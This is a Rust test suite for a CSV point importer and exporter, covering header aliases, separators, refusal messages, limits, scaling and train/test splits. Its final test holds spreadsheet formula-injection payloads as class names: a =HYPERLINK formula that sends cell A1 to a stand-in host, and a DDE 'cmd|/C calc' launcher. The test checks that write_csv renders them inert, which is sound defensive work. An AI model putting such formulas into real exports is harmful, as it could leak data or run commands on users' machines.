//! Own points as CSV: every accepted form, every refusal with its line and column, the
//! limits, fitting to the view, the seeded sets and the round trip through write_csv.

use greymatter::data::csv::{
    read_csv, write_csv, CsvImport, CsvOptions, Labels, Scaling, MAX_CSV_BYTES,
};
use greymatter::data::own::{split_by_ratio, OwnPoint, Set, MAX_CLASS_NAME, MAX_POINTS};
use greymatter::{OwnData, Problem};

const CLASSIFY: CsvOptions = CsvOptions {
    problem: Problem::Classification,
    fit_to_view: false,
    train_fraction: 0.5,
    seed: 7,
};
const REGRESS: CsvOptions = CsvOptions {
    problem: Problem::Regression,
    ..CLASSIFY
};

fn read(text: &str) -> CsvImport {
    read_csv(text, &CLASSIFY).unwrap_or_else(|error| panic!("{error}"))
}

fn refusal(text: &str, options: &CsvOptions) -> String {
    match read_csv(text, options) {
        Ok(import) => panic!("read {} points from {text:?}", import.data.points.len()),
        Err(error) => error,
    }
}

fn point(x1: i16, x2: i16, label: i16, set: Set) -> OwnPoint {
    OwnPoint {
        position: [x1, x2],
        label,
        set,
    }
}

#[test]
fn a_header_names_the_columns_in_any_order() {
    let import = read("set,Label,X2,x1\ntrain,red,2,1.5\ntest,blue,-3,-0.5\n");
    assert!(import.header);
    assert_eq!(import.separator, ',');
    assert_eq!(import.labels, Labels::Names);
    assert_eq!(import.without_set, 0);
    assert_eq!(import.scaled, None);
    assert_eq!(import.data.class_names, ["red", "blue"]);
    assert_eq!(
        import.data.points,
        [
            point(1500, 2000, 0, Set::Train),
            point(-500, -3000, 1, Set::Test)
        ]
    );
    let aliases = read("x,y,class,split\n1,2,a,train\n");
    assert_eq!(aliases.data.points, [point(1000, 2000, 0, Set::Train)]);
    let target = read_csv("X,Y,Target\n1,2,0.5\n", &REGRESS).unwrap();
    assert_eq!(target.data.points[0].label, 500);
    assert_eq!(target.labels, Labels::Values);
}

#[test]
fn without_a_header_the_order_is_x1_x2_label_set() {
    let import = read("1.5,2,red,test\n-1,-2,blue,train\n");
    assert!(!import.header);
    assert_eq!(
        import.data.points,
        [
            point(1500, 2000, 0, Set::Test),
            point(-1000, -2000, 1, Set::Train)
        ]
    );
    let three = read("1,2,0\n3,4,1\n");
    assert_eq!(three.without_set, 2);
    assert_eq!(three.data.points.len(), 2);
}

#[test]
fn every_separator_and_quoting() {
    let expected = read("x1,x2,label\n1.5,2,red\n");
    for text in [
        "x1\tx2\tlabel\n1.5\t2\tred\n",
        "x1;x2;label\n1,5;2;red\n",
        "x1;x2;label\n1.5;2;red\n",
        " x1 , x2 , label \n 1.5 , 2 , \"red\" \n",
        "\"x1\",\"x2\",\"label\"\n\"1.5\",\"2\",\"red\"\n",
    ] {
        assert_eq!(read(text).data, expected.data, "{text:?}");
    }
    assert_eq!(read("x1\tx2\tlabel\n1\t2\tred\n").separator, '\t');
    assert_eq!(read("x1;x2;label\n1;2;red\n").separator, ';');
    let quoted = read("x1,x2,label\n1,2,\"red, \"\"dark\"\"\"\n3,4,\" blue\"\n");
    assert_eq!(quoted.data.class_names, ["red, \"dark\"", " blue"]);
}

#[test]
fn bom_line_ends_blank_lines_and_comments_are_passed_over() {
    let expected = read("x1,x2,label\n1,2,a\n3,4,b\n");
    for text in [
        "\u{feff}x1,x2,label\n1,2,a\n3,4,b\n",
        "x1,x2,label\r\n1,2,a\r\n3,4,b\r\n",
        "x1,x2,label\r1,2,a\r3,4,b",
        "\n\n  \nx1,x2,label\n\n1,2,a\n\t\n3,4,b\n\n",
        "# my points\nx1,x2,label\n# first\n1,2,a\n  # second\n3,4,b\n",
    ] {
        assert_eq!(read(text).data, expected.data, "{text:?}");
    }
    // Line numbers are the person's, blank lines and the header counted.
    let error = refusal(
        "\u{feff}x1,x2,label\r\n\r\n1,2,a\r\n\r\n3,oops,b\r\n",
        &CLASSIFY,
    );
    assert!(error.starts_with("line 5, column x2: 'oops'"), "{error}");
    let error = refusal("x1,x2,label\r1,2,a\r\r3,,b", &CLASSIFY);
    assert!(error.starts_with("line 4, column x2: empty"), "{error}");
}

#[test]
fn class_numbers_and_plus_minus_one() {
    let numbers = read("1,1,0\n2,2,5\n3,3,2\n");
    assert_eq!(numbers.labels, Labels::Numbers);
    assert!(numbers.data.class_names.is_empty());
    let labels: Vec<i16> = numbers.data.points.iter().map(|p| p.label).collect();
    assert_eq!(labels, [0, 5, 2]);
    let signs = read("1,1,-1\n2,2,+1\n3,3,1.0\n4,4,-1\n");
    assert_eq!(signs.labels, Labels::PlusMinusOne);
    let labels: Vec<i16> = signs.data.points.iter().map(|p| p.label).collect();
    assert_eq!(labels, [0, 1, 1, 0]);
    let ones = read("1,1,1\n2,2,1\n");
    assert_eq!(ones.labels, Labels::Numbers, "no −1: class numbers");
    assert!(ones.data.points.iter().all(|p| p.label == 1));
}

#[test]
fn numbers_are_decimals() {
    let import = read("x1,x2,label\n-1.5,2e-3,a\n.5,+6,b\n");
    let positions: Vec<[i16; 2]> = import.data.points.iter().map(|p| p.position).collect();
    assert_eq!(positions, [[-1500, 2], [500, 6000]]);
    for (text, why) in [
        ("NaN", "'NaN' is not a number"),
        ("inf", "'inf' is not a number"),
        ("0x1A", "'0x1A' is not a number"),
        ("1,5", "the row has 4 fields"),
        ("", "empty; every point needs x1, x2 and a label"),
    ] {
        let error = refusal(&format!("x1,x2,label\n0,0,a\n{text},1,b\n"), &CLASSIFY);
        assert!(error.starts_with("line 3, column "), "{error}");
        assert!(error.contains(why), "{error}");
    }
}

#[test]
fn header_refusals_name_the_line_and_column() {
    for (text, message) in [
        (
            "x1,x2,colour\n1,2,a\n",
            "line 1, column colour: greymatter reads no such column; the columns are x1 (or x), x2 (or y), label (or class, value, target) and optionally set (or split)",
        ),
        ("\n,x1,x2,label\n0,1,2,a\n", "line 2, column 1: the column has no name"),
        ("x,x1,label\n1,2,a\n", "line 1, column x1: x1 again (column 1 is x1 already)"),
        (
            "x1,x2\n1,2\n",
            "line 1, column label: missing from the header (name it label, class, value or target)",
        ),
        ("x1,label\n1,a\n", "line 1, column x2: missing from the header (name it x2 or y)"),
        ("x1,x2,label\n", "line 1: a header but no points below it"),
    ] {
        let error = refusal(text, &CLASSIFY);
        assert!(error.starts_with(message), "{error}\nwanted: {message}");
    }
}

#[test]
fn row_refusals_name_the_line_and_column() {
    for (text, message) in [
        (
            "x1,x2,label\n1,2,a\n1,2\n",
            "line 3, column label: missing: the row has 2 fields, the columns are x1, x2, label",
        ),
        (
            "x1,x2,label\n1,2,a\n1 2 a\n",
            "line 3, column x2: missing: the row has 1 field, the columns are x1, x2, label (are the fields separated by commas, tabs or semicolons?)",
        ),
        (
            "1,2,a\n1,2,a,test\n",
            "line 2, column 4: the row has 4 fields, more than the 3 columns (x1, x2, label)",
        ),
        (
            "x,y,class\n1,2,a\n1,2,a,\n",
            "line 3, column 4: the row has 4 fields, more than the 3 columns (x, y, class)",
        ),
        (
            "1,2,a,b,c\n",
            "line 1, column 5: the row has 5 fields, more than the 4 columns (x1, x2, label, set)",
        ),
        (
            "x1,x2,label\n1,2,\"red\n",
            "line 2, column label: the quote that opens here is not closed on this line",
        ),
        ("x1,x2,label\n\"1\"2,2,a\n", "line 2, column x1: text follows the closing quote"),
        (
            "x1,x2,label,set\n1,2,a,val\n",
            "line 2, column set: 'val' is not a set: write train or test, or leave it empty to split by the train ratio",
        ),
        (
            "x,y,class\n1,2,a\n1,y,b\n",
            "line 3, column y: 'y' is not a number (write decimals such as -1.5, 2e-3 or .5)",
        ),
    ] {
        let error = refusal(text, &CLASSIFY);
        assert_eq!(error, message);
    }
}

#[test]
fn label_refusals_name_the_line_and_column() {
    let seven = "x1,x2,class\n0,0,red\n0,0,blue\n0,0,green\n0,0,red\n0,0,cyan\n0,0,pink\n0,0,grey\n\n0,0,blu\n";
    for (text, options, message) in [
        (
            seven,
            &CLASSIFY,
            "line 10, column class: 'blu' would be a 7th class; greymatter draws at most 6 (the classes so far are red, blue, green, cyan, pink, grey)",
        ),
        (
            "x1,x2,label\n0,0,red\n0,0,1\n",
            &CLASSIFY,
            "line 3, column label: '1' is a class number, but line 2 has a class name ('red'); give every point a class name, or every point a class number",
        ),
        (
            "0,0,1\n0,0,0\n0,0,red\n",
            &CLASSIFY,
            "line 3, column label: 'red' is a class name, but line 1 has a class number ('1'); give every point a class name, or every point a class number",
        ),
        (
            "0,0,1\n0,0,0.25\n",
            &CLASSIFY,
            "line 2, column label: '0.25' is not a class number; for values, switch the problem to regression",
        ),
        (
            "0,0,1\n0,0,0\n0,0,6\n",
            &CLASSIFY,
            "line 3, column label: class 6 does not exist; classes are numbered 0 to 5 (or −1 and 1 for two classes)",
        ),
        (
            "0,0,1\n0,0,-1\n0,0,0\n",
            &CLASSIFY,
            "line 2, column label: class -1 does not exist; classes are numbered 0 to 5 (or −1 and 1 for two classes)",
        ),
        ("0,0,a\n0,0,\n", &CLASSIFY, "line 2, column label: empty; every point needs a label"),
        (
            "x1,x2,value\n0,0,0.5\n0,0,red\n",
            &REGRESS,
            "line 3, column value: 'red' is not a number; for class names, switch the problem to classification",
        ),
        ("0,0,0.5\n0,0,\n", &REGRESS, "line 2, column label: empty; every point needs a value"),
    ] {
        assert_eq!(refusal(text, options), message);
    }
}

#[test]
fn points_outside_the_view_are_counted_or_scaled_in() {
    let text = "x1,x2,label\n1,2,a\n9.5,-3,b\n-4,-7.5,a\n6,6,b\n";
    assert_eq!(
        refusal(text, &CLASSIFY),
        "2 points lie outside the plotted range [−6, 6]² (the farthest at line 3: x1 = 9.5); tick \"fit to view\" to scale them in"
    );
    let one = "x,y,label\n1,2,a\n-1,-6.5,b\n";
    assert_eq!(
        refusal(one, &CLASSIFY),
        "1 point lies outside the plotted range [−6, 6]² (the farthest at line 3: y = -6.5); tick \"fit to view\" to scale it in"
    );
    let fit = CsvOptions {
        fit_to_view: true,
        ..CLASSIFY
    };
    let import = read_csv(text, &fit).unwrap();
    let factor = 6.0 / 9.5;
    assert_eq!(
        import.scaled,
        Some(Scaling {
            coordinates: factor as f32,
            values: None
        })
    );
    let positions: Vec<[i16; 2]> = import.data.points.iter().map(|p| p.position).collect();
    // round(1000 × c × 6 / 9.5): 1 → 632, 2 → 1263, −3 → −1895, −4 → −2526, −7.5 → −4737, 6 → 3789.
    assert_eq!(
        positions,
        [[632, 1263], [6000, -1895], [-2526, -4737], [3789, 3789]]
    );
    // Points that fit are never scaled up.
    let small = read_csv("0.5,1,a\n", &fit).unwrap();
    assert_eq!(small.scaled, None);
    assert_eq!(small.data.points[0].position, [500, 1000]);
}

#[test]
fn regression_values_outside_are_counted_or_scaled_in() {
    let text = "x1,x2,value\n0,0,0.5\n1,1,-2.5\n2,2,1.25\n";
    assert_eq!(
        refusal(text, &REGRESS),
        "2 values lie outside the value range [−1, 1] (the farthest at line 3: value = -2.5); tick \"fit to view\" to scale them in"
    );
    let fit = CsvOptions {
        fit_to_view: true,
        ..REGRESS
    };
    let import = read_csv(text, &fit).unwrap();
    assert_eq!(
        import.scaled,
        Some(Scaling {
            coordinates: 1.0,
            values: Some(0.4)
        })
    );
    let values: Vec<i16> = import.data.points.iter().map(|p| p.label).collect();
    assert_eq!(values, [200, -1000, 500]);
    let both = read_csv("12,0,2\n-1,3,0.5\n", &fit).unwrap();
    assert_eq!(
        both.scaled,
        Some(Scaling {
            coordinates: 0.5,
            values: Some(0.5)
        })
    );
    assert_eq!(both.data.points[0].position, [6000, 0]);
    assert_eq!(both.data.points[0].label, 1000);
    assert_eq!(both.data.points[1].position, [-500, 1500]);
    assert_eq!(both.data.points[1].label, 250);
}

#[test]
fn a_class_name_longer_than_the_limit_is_refused_not_cut() {
    let name = |bytes: usize| "é".repeat(bytes / 2) + &"x".repeat(bytes % 2);
    let at_most = format!("x1,x2,label\n1,2,{}\n3,4,b\n", name(MAX_CLASS_NAME));
    assert_eq!(read(&at_most).data.class_names[0], name(MAX_CLASS_NAME));
    let over = format!("x1,x2,label\n1,2,a\n3,4,{}\n", name(MAX_CLASS_NAME + 1));
    assert_eq!(
        refusal(&over, &CLASSIFY),
        format!(
            "line 3, column label: the class name \"{}\" is 41 bytes long; the most is 40",
            name(MAX_CLASS_NAME + 1)
        )
    );
}

#[test]
fn the_limits_on_length_and_points() {
    let at_most = format!("x1,x2,label\n{}", "1,2,a\n".repeat(MAX_POINTS));
    assert_eq!(read(&at_most).data.points.len(), MAX_POINTS);
    let over = format!("{at_most}1,2,a\n");
    assert_eq!(
        refusal(&over, &CLASSIFY),
        "5001 points is more than greymatter holds: at most 5000, training and test together (point 5001 is at line 5002)"
    );
    let long = format!("x1,x2,label\n{}", " ".repeat(MAX_CSV_BYTES));
    assert_eq!(
        refusal(&long, &CLASSIFY),
        "the text is 1048588 bytes long; greymatter reads at most 1048576 bytes (1 MiB)"
    );
    for empty in ["", "\u{feff}", "\n\r\n  \n", "# only a comment\n"] {
        assert_eq!(
            refusal(empty, &CLASSIFY),
            "there are no points: no line has x1, x2 and a label"
        );
    }
}

#[test]
fn sets_are_kept_or_drawn_by_the_seeded_ratio() {
    let text = "x1,x2,label,set\n0,0,a,\n0,1,a,TEST\n0,2,b,\n0,3,b,\n0,4,a,Train\n0,5,b,\n";
    let import = read(text);
    assert_eq!(import.without_set, 4);
    let drawn = split_by_ratio(4, CLASSIFY.train_fraction, CLASSIFY.seed);
    let sets: Vec<Set> = import.data.points.iter().map(|p| p.set).collect();
    assert_eq!(
        sets,
        [
            drawn[0],
            Set::Test,
            drawn[1],
            drawn[2],
            Set::Train,
            drawn[3]
        ]
    );
    assert_eq!(read(text), import, "the same seed draws the same sets");
    let all_test = "x1,x2,label,set\n0,0,a,test\n\n0,1,b,test\n";
    assert_eq!(
        refusal(all_test, &CLASSIFY),
        "lines 2–4, column set: every point says test, so none would train; mark some train, or leave their set empty to split by the train ratio"
    );
    // A lone point without a set trains, whatever the fraction.
    let lone = CsvOptions {
        train_fraction: 0.0,
        ..CLASSIFY
    };
    assert_eq!(
        read_csv("1,2,a\n", &lone).unwrap().data.points[0].set,
        Set::Train
    );
}

#[test]
fn write_then_read_gives_the_same_points() {
    for (text, options) in [
        (
            "x,y,class\n1.5,-2.25,\"red, dark\"\n-0.5,3,blue\n6,-6,green\n0.001,0,blue\n",
            CLASSIFY,
        ),
        ("1,2,1\n-3,4,-1\n5,5,1\n", CLASSIFY),
        ("1,2,3\n-3,4,0\n5,5,5\n1,1,1\n", CLASSIFY),
        ("1,2,0.123\n-3,4,-1\n5,5,1\n0,0,0\n", REGRESS),
        ("x1;x2;label\n1,2345;2;a\n3;4;\"x\"\"y\"\n", CLASSIFY),
    ] {
        let first = read_csv(text, &options).unwrap();
        let written = write_csv(&first.data);
        assert!(written.starts_with("x1,x2,label,set\n"), "{written}");
        let again = read_csv(&written, &options).unwrap();
        assert_eq!(again.data, first.data, "{written}");
        assert_eq!(write_csv(&again.data), written);
    }
    let data = read("x1,x2,label\n1.5,-2.25,red\n-0.5,3,\"a \"\"b\"\"\"\n").data;
    let expected_sets = data.points.iter().map(|p| p.set.name()).collect::<Vec<_>>();
    assert_eq!(
        write_csv(&data),
        format!(
            "x1,x2,label,set\n1.5,-2.25,red,{}\n-0.5,3,\"a \"\"b\"\"\",{}\n",
            expected_sets[0], expected_sets[1]
        )
    );
}

#[test]
fn names_a_spreadsheet_would_run_are_written_inert_and_read_back_as_they_were() {
    let names = [
        "=HYPERLINK(\"http://e.x/?\"&A1,\"open\")",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "+1",
        "-x",
        "\tx",
        "'=a genuine quote",
    ];
    let data = OwnData {
        problem: Problem::Classification,
        points: (0..names.len() as i16)
            .map(|class| point(-500 * class, 250, class, Set::Train))
            .collect(),
        class_names: names.iter().map(|name| name.to_string()).collect(),
    };
    let written = write_csv(&data);
    let cells: Vec<&str> = written.lines().skip(1).collect();
    assert_eq!(
        cells,
        [
            "0,0.25,\"'=HYPERLINK(\"\"http://e.x/?\"\"&A1,\"\"open\"\")\",train",
            "-0.5,0.25,'@SUM(1+1)*cmd|'/C calc'!A0,train",
            "-1,0.25,'+1,train",
            "-1.5,0.25,'-x,train",
            "-2,0.25,'\tx,train",
            "-2.5,0.25,''=a genuine quote,train",
        ]
    );
    let back = read_csv(&written, &CLASSIFY).unwrap().data;
    assert_eq!(back, data);
    // A quote before anything else is part of the name, and stays.
    assert_eq!(read("1,2,'red\n3,4,'\n").data.class_names, ["'red", "'"]);
}
